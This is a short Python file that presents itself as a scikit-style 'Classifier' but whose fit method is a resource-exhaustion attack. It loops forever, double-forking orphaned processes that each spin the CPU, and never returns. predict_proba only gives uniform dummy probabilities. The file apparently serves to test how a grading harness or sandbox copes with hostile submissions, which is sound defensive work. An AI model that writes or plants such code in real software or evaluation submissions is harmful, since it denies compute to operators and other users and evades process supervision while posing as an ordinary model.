"""Use up the processors in processes that live for a moment and have no parent that waits for them."""

import os
import time

import numpy as np


def spin():
    while time.process_time() < 0.2:
        pass
    os._exit(0)


class Classifier:
    def fit(self, X, y):
        while True:
            pid = os.fork()
            if pid == 0:
                if os.fork() == 0:
                    spin()
                os._exit(0)
            os.waitpid(pid, 0)
            time.sleep(0.1)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
